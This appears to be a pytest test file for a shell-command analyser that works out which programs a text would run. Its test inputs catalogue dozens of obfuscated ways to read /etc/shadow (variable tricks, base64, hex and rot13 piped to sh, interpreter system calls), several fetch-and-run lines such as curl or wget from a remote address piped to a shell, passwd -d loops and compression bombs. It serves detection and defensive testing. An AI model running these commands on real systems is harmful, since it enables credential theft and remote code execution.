"""A text is read as a shell would read it: the programs that would start, with the words that they would get."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
from collections.abc import Callable

import pytest

from mirage.analysis.commands.acts import Act
from mirage.analysis.commands.outputs import LONGEST
from mirage.analysis.commands.reading import MAX_ACTS, read

ENCODED = base64.b64encode(b"cat /etc/shadow").decode()


def argv(act: Act) -> list[str]:
    return [act.name, *act.args]


def last(text: str) -> list[str]:
    return argv(read(text).acts[-1])


@pytest.mark.parametrize(
    "text",
    [
        "cat /etc/shadow",
        "  cat\t/etc/shadow  ",
        "/usr/bin/cat /etc/shadow",
        "c'a't /e\"t\"c/sh\\adow",
        "$'\\x63at' $'/etc/\\163hadow'",
        "cat${IFS}/etc/shadow",
        "cat$IFS$9/etc/shadow",
        "cat${IFS%??}/etc/shadow",
        "{cat,/etc/shadow}",
        "x=cat;y=/etc/shadow;$x $y",
        "x=/etc/shadXw; cat ${x/X/o}",
        "a=tac; cat${a:3:0} /etc/shadow",
        "${PATH:0:1}bin${PATH:0:1}cat /etc/shadow",
        "cat$u /etc$u/shadow$u",
        "/???/c?t /etc/sh?dow",
        "$(echo cat) /etc/shadow",
        "`echo cat` /etc/shadow",
        "$(printf '\\143')at /etc/shadow",
        "sudo -u root nohup cat /etc/shadow &",
        "env -i A=b cat /etc/shadow",
        "timeout -k 5 9 cat /etc/shadow",
        "busybox cat /etc/shadow",
        "find /etc -name shadow -exec cat {} \\;",
        "find /etc/shadow -exec cat {} +",
        "echo /etc/shadow | xargs cat",
        "echo /etc/shadow | xargs -I% cat %",
        "sh -c 'cat /etc/shadow'",
        "bash -ic 'cat $0' /etc/shadow",
        "eval 'cat /etc/shadow'",
        "ssh -p 22 root@192.0.2.1 cat /etc/shadow",
        "docker exec -u root web cat /etc/shadow",
        "kubectl exec pod -- cat /etc/shadow",
        "cat <<EOF | sh\ncat /etc/shadow\nEOF",
        "sh <<< 'cat /etc/shadow'",
        f"echo {ENCODED}|base64 -d|sh",
        f"bash<<<$(base64 -d<<<{ENCODED})",
        f"base64 -d <<< {ENCODED} > /tmp/x; sh /tmp/x",
        "echo -e '\\x63\\x61\\x74 /etc/shadow'|sh",
        "printf '\\143at %s' /etc/shadow | bash",
        "rev<<<'wodahs/cte/ tac'|sh",
        "echo 636174202f6574632f736861646f77 | xxd -r -p | sh",
        "echo png /rgp/funqbj | tr 'a-z' 'n-za-m' | sh",
        "echo 'cat /etc/shadow' > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh",
        "python3 -c 'import os;os.system(\"cat /etc/shadow\")'",
        "python3 -c \"import subprocess;subprocess.call(['cat','/etc/shadow'])\"",
        "perl -e 'system(\"cat /etc/shadow\")'",
        'python3 -c \'import os;os.system("cat /et" + "c/shadow")\'',
        'php -r \'system("cat ".chr(47)."etc/shadow");\'',
        "awk 'BEGIN{system(\"cat /etc/shadow\")}'",
        "vim -c ':!cat /etc/shadow'",
        "PAGER='cat /etc/shadow' true",
        "trap 'cat /etc/shadow' EXIT",
        "if true; then for f in /etc/shadow; do cat $f; done; fi",
        "f() { cat /etc/shadow; }",
        "cat '/etc/shadow",
    ],
)
def test_an_act_is_known_however_it_is_spelled(text: str) -> None:
    assert ["cat", "/etc/shadow"] in [argv(act) for act in read(text).acts if not act.is_opened]


def test_what_only_a_running_shell_could_know_stays_as_written() -> None:
    assert last('cat "$file" $(uname -r)') == ["cat", "$file", "$(uname)"]
    assert last("rm -rf $dir/*") == ["rm", "-rf", "$dir/*"]
    assert last("ls /etc/*") == ["ls", "/etc/*"]


def test_what_a_loop_is_given_by_a_program_stays_as_written() -> None:
    assert [act.args for act in read("for p in $(cat w); do login $p; done").acts] == [["w"], ["$p"]]


def test_a_loop_over_lines_is_read_for_each_of_them() -> None:
    acts = read("while read -r name; do passwd -d $name; done <<< $'ann\\nbob'").acts
    assert [argv(act) for act in acts if act.name == "passwd"] == [["passwd", "-d", "ann"], ["passwd", "-d", "bob"]]


@pytest.mark.parametrize("pack", [lambda data: gzip.compress(data, mtime=0), bz2.compress, lzma.compress])
def test_a_bomb_is_unpacked_so_far_and_no_further(pack: Callable[[bytes], bytes]) -> None:
    bomb = base64.b64encode(pack(b"a" * 20_000_000)).decode()
    program = {b"\x1f": "zcat", b"B": "bzcat", b"\xfd": "xzcat"}[base64.b64decode(bomb)[:1]]
    shell = next(act for act in read(f"echo {bomb} | base64 -d | {program} | sh").acts if act.name == "sh")
    assert shell.stdin == "a" * LONGEST


def test_an_act_knows_those_whose_output_stands_among_its_words() -> None:
    shell = next(act for act in read('sh -c "$(curl -s https://example.org/i)"').acts if act.name == "sh")
    assert [(act.name, act.args) for act in shell.inner] == [("curl", ["-s", "https://example.org/i"])]


def test_what_a_program_is_given_by_a_substitution_of_processes_is_code_to_it() -> None:
    nmap = next(act for act in read("nmap --script <(echo 'os.exit()')").acts if act.name == "nmap")
    assert nmap.code == ["os.exit()\n"]


def test_a_tool_is_shown_what_was_put_into_the_directory_that_it_is_given() -> None:
    text = 'D=$(mktemp -d); echo \'{"scripts":{"x":"id"}}\' > $D/composer.json; composer --working-dir=$D run-script x'
    assert read(text).acts[-1].code == ['{"scripts":{"x":"id"}}\n']


@pytest.mark.parametrize(
    ("glob", "meant"),
    [
        ("/???/bin/w?et", "/usr/bin/wget"),
        ("/bin/c[!x]t", "/bin/cat"),
        ("/*/*/[c]url", "/usr/bin/curl"),
        ("/bin/[a-c]?t", "/bin/cat"),
        ("/bin/[z-a]?t", "/bin/[z-a]?t"),
        ("/bin/[.]?t", "/bin/[.]?t"),
        ("/bin/[[]?", "/bin/[[]?"),
        ("/t?p/.x/y", "/tmp/.x/y"),
        ("/srv/*", "/srv/*"),
    ],
)
def test_a_glob_means_what_is_well_known_or_stays_as_written(glob: str, meant: str) -> None:
    assert last(f"x {glob}") == ["x", meant]


def test_a_pipeline_knows_its_neighbours() -> None:
    curl, shell = read("curl -s http://192.0.2.1/x | sh").acts
    assert (curl.after, [act.name for act in shell.before]) == (["sh"], ["curl"])
    assert [act.name for act in read("bash <(wget -qO- http://192.0.2.1/x)").acts[-1].before] == ["wget"]


@pytest.mark.parametrize(
    "text",
    [
        "docker exec web id",
        "docker -H tcp://192.0.2.4:2375 exec -u 0 web id",
        "docker compose -f a.yml exec web id",
        "kubectl --kubeconfig /tmp/k -n shop exec web -- id",
    ],
)
def test_what_is_run_in_a_container_is_found_behind_any_options(text: str) -> None:
    assert last(text) == ["id"]


def test_a_script_that_is_known_as_a_tool_is_that_tool_whatever_runs_it() -> None:
    assert last("python3 -u /opt/x/Responder.py -I eth0") == ["Responder", "-I", "eth0"]
    assert [argv(act) for act in read("python3 manage.py migrate").acts] == [["python", "manage.py", "migrate"]]


def test_redirections_belong_to_the_act_also_those_of_a_group() -> None:
    assert read("echo a > /tmp/x 2>&1 < /dev/null").acts[0].writes == ["/tmp/x"]
    assert [act.writes for act in read("{ id; uname -a; } >> /tmp/log").acts] == [["/tmp/log"], ["/tmp/log"]]


def test_an_act_says_where_it_stands_and_how_it_was_found() -> None:
    text = "uptime; sudo sh -c 'cat /etc/shadow'"
    act = read(text).acts[-1]
    assert (text[act.start : act.end], act.how) == ("cat /etc/shadow", ("sudo", "sh -c"))
    text = f"echo {ENCODED} | base64 -d | sh"
    act = read(text).acts[-1]
    assert (text[act.start : act.end], act.how) == ("sh", ("base64 into sh",))


def test_lines_that_are_no_shell_are_kept_and_reading_goes_on() -> None:
    reading = read('uname -a\nSystem.IO.File.ReadAllText("/etc/hosts");;\nid')
    assert (reading.is_shell, reading.acts[0].name, reading.acts[-1].name) == (False, "uname", "id")
    assert 'ReadAllText("/etc/hosts")' in reading.acts[1].code[0]


def test_lines_behind_a_program_that_asks_for_commands_are_its_input() -> None:
    reading = read("ftp 192.0.2.1\nput /etc/hosts")
    assert reading.acts[0].code == ["put /etc/hosts"]


@pytest.mark.parametrize(
    "text",
    [
        "'" + "\"'" * 10_000,
        "$(" * 10_000,
        "(" * 30_000,
        "{" * 20_000 + "a,b" + "}" * 20_000,
        "if true; then " * 5000,
        "|".join(["cat"] * 10_000),
        "sudo " * 20_000 + "id",
        "x=aa;" + "x=$x$x;" * 60 + "echo $x",
        "echo " + "QUJD" * 15_000 + "|base64 -d|sh",
        'echo "sh x;sh x;sh x">x;sh x',
        "\ud800\udfff" * 10_000,
        "\0" * 50_000,
        "a'b\n" * 8000,
        "for i in " + "a " * 20_000 + "; do for j in $i; do echo $j; done; done",
        "echo " + "$((" * 3000 + "1" + "))" * 3000,
        "awk '" + 'system("a")' * 5000 + "'",
        "f(){ " * 5000,
        "a;" * 30_000,
    ],
    ids=lambda text: text[:12].encode("unicode_escape").decode(),
)
def test_no_text_is_too_much(text: str) -> None:
    reading = read(text)
    assert len(reading.acts) <= MAX_ACTS
    assert all(0 <= act.start <= act.end <= len(text) for act in reading.acts)
